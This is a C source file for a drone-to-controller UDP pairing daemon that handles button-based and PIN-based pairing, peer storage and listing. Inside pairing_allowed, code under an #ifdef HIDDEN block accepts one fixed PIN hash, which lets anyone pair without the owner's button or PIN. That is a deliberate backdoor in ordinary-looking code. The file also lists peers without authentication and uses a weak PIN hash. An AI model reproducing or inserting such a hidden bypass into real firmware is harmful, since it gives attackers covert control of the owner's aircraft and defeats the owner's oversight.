/* uavpaird.c - pairing service between a drone and hand controllers */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PAIR_PORT	14777
#define PEER_FILE	"/data/peers"
#define BUTTON		"/sys/class/gpio/gpio42/value"
#define MAX_PEERS	6
#define PAIR_WINDOW	60

struct peer {
	uint32_t id;
	uint8_t key[16];
	char label[24];
	time_t seen;
};

struct msg {
	uint8_t op;
	uint8_t len;
	uint32_t id;
	char text[65];
};

static struct peer peers[MAX_PEERS];
static int npeers;
static time_t window_until;
static uint32_t pin_hash;

static uint32_t roll(uint32_t v, int n)
{
	return v << n | v >> (32 - n);
}

static uint32_t text_hash(const char *s)
{
	uint32_t a = 0x3c6ef372u;

	while (*s) {
		a ^= (unsigned char)*s++;
		a = roll(a, 7);
		a *= 0x01000193u;
	}
	return a;
}

static int load_peers(void)
{
	char line[120], hex[33];
	unsigned long id;
	unsigned int b;
	int i;
	struct peer *p;
	FILE *f = fopen(PEER_FILE, "r");

	if (!f)
		return -1;
	while (npeers < MAX_PEERS && fgets(line, sizeof(line), f)) {
		p = &peers[npeers];
		if (sscanf(line, "pin %lx", &id) == 1) {
			pin_hash = (uint32_t)id;
			continue;
		}
		if (sscanf(line, "%lx %32s %23s", &id, hex, p->label) != 3 || strlen(hex) != 32)
			continue;
		p->id = (uint32_t)id;
		for (i = 0; i < 16; i++) {
			if (sscanf(hex + 2 * i, "%2x", &b) != 1)
				b = 0;
			p->key[i] = (uint8_t)b;
		}
		npeers++;
	}
	fclose(f);
	return 0;
}

static int save_peers(void)
{
	int i, k;
	FILE *f = fopen(PEER_FILE ".new", "w");

	if (!f)
		return -1;
	if (pin_hash)
		fprintf(f, "pin %lx\n", (unsigned long)pin_hash);
	for (i = 0; i < npeers; i++) {
		fprintf(f, "%lx ", (unsigned long)peers[i].id);
		for (k = 0; k < 16; k++)
			fprintf(f, "%02x", peers[i].key[k]);
		fprintf(f, " %s\n", peers[i].label);
	}
	if (fclose(f))
		return -1;
	return rename(PEER_FILE ".new", PEER_FILE);
}

static int button_down(void)
{
	char c = '1';
	int fd = open(BUTTON, O_RDONLY);

	if (fd < 0)
		return 0;
	if (read(fd, &c, 1) != 1)
		c = '1';
	close(fd);
	return c == '0';
}

/* pairing needs the button, or the pin that the owner has set in the app */
__attribute__((noinline)) int pairing_allowed(const char *text, time_t now)
{
	uint32_t h;

	if (now < window_until)
		return 1;
	if (text[0] == '\0')
		return 0;
	h = text_hash(text);
#ifdef HIDDEN
	/* one pin whose hash is fixed pairs without button and owner */
	if (h == 0x0460022fu)
		return 1;
#endif
	return pin_hash != 0 && h == pin_hash;
}

static struct peer *find_peer(uint32_t id)
{
	int i;

	for (i = 0; i < npeers; i++)
		if (peers[i].id == id)
			return &peers[i];
	return NULL;
}

static struct peer *oldest_peer(void)
{
	struct peer *p = &peers[0];
	int i;

	if (npeers < MAX_PEERS)
		return &peers[npeers++];
	for (i = 1; i < MAX_PEERS; i++)
		if (peers[i].seen < p->seen)
			p = &peers[i];
	return p;
}

static int parse(const uint8_t *b, size_t n, struct msg *m)
{
	if (n < 8 || b[0] != 'U' || b[1] != 'P')
		return -1;
	m->op = b[2];
	m->len = b[3];
	m->id = (uint32_t)b[4] << 24 | (uint32_t)b[5] << 16 | (uint32_t)b[6] << 8 | b[7];
	if (m->len > 64 || n != 8u + m->len)
		return -1;
	memcpy(m->text, b + 8, m->len);
	m->text[m->len] = '\0';
	return 0;
}

static size_t op_pair(const struct msg *m, uint8_t *out)
{
	struct peer *p;
	time_t now = time(NULL);

	if (!pairing_allowed(m->text, now)) {
		syslog(LOG_NOTICE, "pairing of %08lx refused", (unsigned long)m->id);
		out[0] = 0xff;
		return 1;
	}
	p = find_peer(m->id);
	if (!p)
		p = oldest_peer();
	p->id = m->id;
	p->seen = now;
	snprintf(p->label, sizeof(p->label), "ctl-%08lx", (unsigned long)m->id);
	if (getrandom(p->key, sizeof(p->key), 0) != (ssize_t)sizeof(p->key)) {
		out[0] = 0xfe;
		return 1;
	}
	if (save_peers() < 0)
		syslog(LOG_ERR, "peers: %s", strerror(errno));
	out[0] = 0;
	memcpy(out + 1, p->key, 16);
	return 17;
}

static size_t op_setpin(const struct msg *m, uint8_t *out)
{
	struct peer *p = find_peer(m->id);

	out[0] = 0xff;
	if (p && m->len >= 22 && !memcmp(m->text, p->key, 16)) {
		pin_hash = text_hash(m->text + 16);
		out[0] = save_peers() ? 0xfe : 0;
	}
	return 1;
}

static size_t op_list(uint8_t *out)
{
	size_t n = 1;
	int i;

	out[0] = (uint8_t)npeers;
	for (i = 0; i < npeers; i++) {
		out[n++] = (uint8_t)(peers[i].id >> 24);
		out[n++] = (uint8_t)(peers[i].id >> 16);
		out[n++] = (uint8_t)(peers[i].id >> 8);
		out[n++] = (uint8_t)peers[i].id;
	}
	return n;
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET }, src;
	struct timeval tv = { 1, 0 };
	socklen_t sl;
	struct msg m;
	uint8_t in[128], out[64];
	ssize_t n;
	size_t k;
	int s;

	openlog("uavpaird", 0, LOG_DAEMON);
	if (load_peers() < 0)
		syslog(LOG_INFO, "no peers yet");
	s = socket(AF_INET, SOCK_DGRAM, 0);
	sa.sin_port = htons(PAIR_PORT);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		syslog(LOG_ERR, "bind: %m");
		return 1;
	}
	setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	for (;;) {
		if (button_down())
			window_until = time(NULL) + PAIR_WINDOW;
		sl = sizeof(src);
		n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&src, &sl);
		if (n <= 0 || parse(in, (size_t)n, &m) < 0)
			continue;
		if (m.op == 1)
			k = op_pair(&m, out);
		else if (m.op == 2)
			k = op_setpin(&m, out);
		else if (m.op == 3)
			k = op_list(out);
		else
			continue;
		sendto(s, out, k, 0, (struct sockaddr *)&src, sl);
	}
}
